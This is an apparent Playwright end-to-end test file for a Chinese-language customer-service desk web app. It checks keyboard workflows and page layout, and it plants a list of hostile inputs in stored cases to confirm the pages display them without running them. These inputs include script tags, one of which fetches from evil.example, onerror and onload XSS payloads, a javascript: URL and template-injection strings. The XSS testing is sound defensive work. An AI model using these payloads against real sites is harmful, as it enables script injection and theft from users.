"""A salesperson's morning in a real browser, and strangers' attempts to run something in it."""

from collections.abc import Iterator
from datetime import timedelta

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect
from sqlalchemy import Engine
from sqlmodel import Session, col, select

from casework.customers import meet
from casework.replies import StoredFile, attach
from nlp.reading import Evidence, Kind, Reading, Requirement, Severity, Source
from store.engine import reading, writing
from store.files import FileStore
from store.tables import (
    Case,
    Channel,
    Incoming,
    IncomingState,
    Listener,
    Outgoing,
    OutgoingKind,
    OutgoingState,
)
from tests.web.chromium import chromium
from tests.web.filled import NOW, PASSWORD, take

PAGES = (
    *("/desk", "/desk/cases/HY-000001", "/desk/new", "/desk/notices", "/desk/health"),
    *("/desk/complaints", "/desk/cases/HY-000001/complaint", "/desk/me"),
    *("/desk/quarantine", "/desk/log", "/desk/reports?period=year", "/desk/surveys"),
    *("/desk?q=nothing", "/desk/cases/HY-000099"),
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


REFRESH = """() => new Promise((done) => {
    document.addEventListener("htmx:afterSettle", () => setTimeout(done, 50), { once: true });
    htmx.trigger("#list", "refresh");
})"""


class Watched:
    """A page together with everything that went wrong on it."""

    def __init__(self, browser: Browser, address: str, name: str, **context: object) -> None:
        self.context = browser.new_context(base_url=address, **{"locale": "zh-CN"} | context)  # type: ignore[arg-type]
        self.page: Page = self.context.new_page()
        self.troubles: list[str] = []
        self.page.on("pageerror", lambda error: self.troubles.append(f"error: {error}"))
        self.page.on("dialog", self._opened)
        self.page.on("console", lambda line: self._heard(line.type, line.text))
        self.page.on("request", lambda request: self._asked(address, request.url))
        self.page.goto("/sign-in")
        self.page.fill("[name=name]", name)
        self.page.fill("[name=password]", PASSWORD)
        self.page.press("[name=password]", "Enter")
        self.page.wait_for_url("**/desk")

    def _opened(self, dialog: Dialog) -> None:
        self.troubles.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _heard(self, kind: str, text: str) -> None:
        # A page that is not there is one of those we look at.
        if kind in ("error", "warning") and "404 (Not Found)" not in text:
            self.troubles.append(text)

    def _asked(self, ours: str, url: str) -> None:
        if not url.startswith(ours):
            self.troubles.append(f"asked {url}")


@pytest.fixture
def desk(browser: Browser, address: str) -> Iterator[Watched]:
    watched = Watched(browser, address, "王芳")
    yield watched
    watched.context.close()
    assert watched.troubles == []


@pytest.fixture
def boss(browser: Browser, address: str) -> Iterator[Watched]:
    watched = Watched(browser, address, "赵敏")
    yield watched
    watched.context.close()
    assert watched.troubles == []


def owed(engine: Engine) -> list[Outgoing]:
    with reading(engine) as session:
        wanted = select(Outgoing).where(
            col(Outgoing.kind) == OutgoingKind.REPLY, col(Outgoing.state) == OutgoingState.DUE
        )
        return list(session.exec(wanted))


def test_it_is_worked_with_the_keyboard_from_queue_to_answer(desk: Watched, engine: Engine) -> None:
    page = desk.page
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    expect(page.locator("tr.here")).to_have_attribute("id", "HY-000001")
    page.keyboard.press("Enter")
    page.wait_for_url("**/desk/cases/HY-000001")
    page.locator("mark", has_text="镀层起泡").hover()
    page.keyboard.press("r")
    page.keyboard.type("李工您好，今天 17 点前给出方案。")
    page.keyboard.press("Control+Enter")
    page.wait_for_url("**sent=1**")
    expect(page.locator(".draft")).to_contain_text("17 点前")  # a claim: the manager confirms it first
    assert owed(engine) == []
    page.goto("/desk/cases/HY-000003")
    page.keyboard.press("r")
    page.keyboard.type("訂單收到。")
    page.keyboard.press("Control+Enter")
    page.wait_for_url("**sent=1**")
    expect(page.locator(".message.ours .letter")).to_contain_text("等待发送")
    assert [letter.recipient for letter in owed(engine)] == ["contact1@customer.example"]
    page.keyboard.press("u")
    page.wait_for_url("**/desk")
    expect(page.locator("#HY-000003")).to_have_count(0)


def test_it_sends_one_answer_for_two_quick_clicks(desk: Watched, engine: Engine) -> None:
    desk.page.goto("/desk/cases/HY-000002")
    desk.page.fill("#answer", "We will quote today.")
    desk.page.locator("#reply .primary").dblclick()
    desk.page.wait_for_url("**sent=1**")
    assert len(owed(engine)) == 1


def test_it_keeps_a_draft_until_it_is_sent(desk: Watched) -> None:
    page = desk.page
    page.goto("/desk/cases/HY-000002")
    page.fill("#answer", "half a sentence")
    page.goto("/desk")
    page.goto("/desk/cases/HY-000002")
    expect(page.locator("#answer")).to_have_value("half a sentence")
    page.locator("#reply .primary").click()
    page.wait_for_url("**sent=1**")
    expect(page.locator("#answer")).to_have_value("")


def test_it_refreshes_the_queue_and_keeps_the_place(desk: Watched, engine: Engine) -> None:
    page = desk.page
    for _time in range(3):
        page.keyboard.press("j")
    expect(page.locator("tr.here")).to_have_attribute("id", "HY-000003")
    with writing(engine) as session:
        contact = meet(session, Channel.EMAIL, "new@new.example", "新客户", "zh", NOW)
        news = Reading(language="zh", kind=Kind.INQUIRY, confidence=0.9)
        take(session, contact, "新来的询价", news, NOW - timedelta(hours=24), address="new@new.example")
    chip = page.locator("a.chip", has_text="咨询")
    chip.focus()
    page.evaluate(REFRESH)
    expect(page.locator("#HY-000009")).to_be_visible()
    expect(chip).to_be_focused()
    expect(chip).to_contain_text("3")
    expect(page.locator("tr.here")).to_have_attribute("id", "HY-000003")


def test_it_shows_a_mail_in_its_layout_inside_a_locked_frame(desk: Watched) -> None:
    desk.page.goto("/desk/cases/HY-000001")
    desk.page.get_by_text("按原格式查看").click()
    frame = desk.page.frame_locator(".as-html iframe")
    expect(frame.locator("b").first).to_have_text("KX-2208")
    expect(frame.locator("img")).to_have_count(0)


CUT_OFF = """() => [document.documentElement, ...document.querySelectorAll(".top nav, button, .cards td")]
    .filter((part) => part.scrollWidth > part.clientWidth).map((part) => part.outerHTML.slice(0, 200))"""


@pytest.mark.parametrize("width", [390, 1280])
@pytest.mark.parametrize("name", ["赵敏", "Grace Lin"])  # Grace Lin reads English
def test_it_fits_the_window_on_every_page(browser: Browser, address: str, name: str, width: int) -> None:
    desk = Watched(browser, address, name, viewport={"width": width, "height": 800})
    for path in PAGES:
        desk.page.goto(path)
        assert desk.page.evaluate(CUT_OFF) == [], path
    desk.context.close()
    assert desk.troubles == []


@pytest.mark.parametrize("width", [390, 1280])
def test_the_calendar_fits_the_window(browser: Browser, address: str, width: int) -> None:
    desk = Watched(browser, address, "赵敏", viewport={"width": width, "height": 800})
    desk.page.goto("/desk/calendar?day=2026-11-23")
    desk.page.get_by_role("button", name="添加例外").click()
    expect(desk.page.get_by_role("cell", name="2026-11-23")).to_be_visible()
    assert desk.page.evaluate(CUT_OFF) == []
    desk.context.close()
    assert desk.troubles == []


UNNAMED = """() => [...document.querySelectorAll(".cards td")].filter((cell) => {
    const heading = cell.closest("table").tHead.rows[0].cells[cell.cellIndex].textContent;
    const shown = getComputedStyle(cell, "::before").content;
    return shown !== (heading ? JSON.stringify(heading) : "none") || !cell.textContent.trim();
}).map((cell) => cell.outerHTML)"""


def test_it_names_every_value_on_a_phone(boss: Watched, engine: Engine) -> None:
    with writing(engine) as session:
        for letter in session.exec(
            select(Outgoing).where(col(Outgoing.kind) == OutgoingKind.ACKNOWLEDGEMENT)
        ):
            letter.state = OutgoingState.UNCERTAIN
    boss.page.set_viewport_size({"width": 390, "height": 800})
    for path in ("/desk/health", "/desk/quarantine", "/desk/surveys", "/desk/log"):
        boss.page.goto(path)
        expect(boss.page.locator(".cards td").first).to_be_visible()
        assert boss.page.evaluate(UNNAMED) == [], path


def test_it_shows_what_became_of_a_second_try(boss: Watched, engine: Engine) -> None:
    boss.page.goto("/desk/quarantine")
    boss.page.get_by_role("button", name="再试一次").click()
    expect(boss.page.get_by_role("status")).to_have_text("正在重新处理，结果会显示在这里。")
    with writing(engine) as session:
        session.get_one(Incoming, 1).state = IncomingState.QUARANTINED
    expect(boss.page.get_by_role("status")).to_have_text("又试了一次，还是读不懂。", timeout=20_000)


HOSTILE = (
    "<script>fetch('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'-alert(1)-'",
    "{{ 7 * 7 }}{% raw %}",
    "%(name)s %s {0}",
    "</textarea><script>alert(1)</script>",
    "\u202egpj.exe\u2066\u200f",
    "a\x01b\x07c\x1b[31m",
    "x" * 3000,
    "\U0001f4a9" * 500,
    "مرحبا بالعالم",
    "javascript:alert(1)",
    "\ufeff\u200b\u0000"[:2],
)


def plant(session: Session, files: FileStore, payload: str, number: int) -> Case:
    """A case with the payload wherever a stranger can write."""
    address = f"hostile{number}@evil.example"
    contact = meet(session, Channel.EMAIL, address, payload, "zh", NOW)
    end = min(4, len(payload))
    shown = Reading(
        language="zh",
        kind=Kind.COMPLAINT,
        confidence=0.5,
        severity=Severity.SEVERE,
        requirements=(Requirement("packaging", Source.STATED, payload[:300]),),
        evidence=(Evidence(payload[:40], "text", 0, end, payload[:end], payload[:40]),),
    )
    case, message = take(
        session,
        contact,
        payload,
        shown,
        NOW - timedelta(hours=1),
        subject=payload[:400],
        address=address,
        whole=payload + "\n> " + payload,
        html=files.put(f"<p>{payload}</p>".encode()),
    )
    message.cc, message.note = [payload[:100]], payload[:200]
    message.forwarded = [dict.fromkeys(("name", "address", "subject", "text"), payload)]
    attach(session, message, (StoredFile(payload[:200], payload[:100], 1, files.put(b"x")),))
    return case


def test_it_shows_hostile_words_and_runs_none_of_them(
    boss: Watched, engine: Engine, files: FileStore
) -> None:
    with writing(engine) as session:
        cases = [plant(session, files, payload, n) for n, payload in enumerate(HOSTILE)]
        numbers = [case.number for case in cases]
        session.add(Listener(name=HOSTILE[0], channel=Channel.EMAIL, failing_since=NOW, error=HOSTILE[1]))
    page = boss.page
    for payload in HOSTILE:
        page.goto("/desk")
        page.fill("#q", payload)
        page.press("#q", "Enter")
        page.wait_for_load_state()
        expect(page.locator("header.top")).to_be_visible()
    for path in (*PAGES, *(f"/desk/cases/{number}" for number in numbers)):
        answer = page.goto(path)
        assert answer is not None
        assert answer.status in (200, 404), path
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, path
        for mark in page.locator("mark").all():
            mark.hover()
        for box in page.locator("details.as-html summary").all():
            box.click()
        page.wait_for_load_state("networkidle")
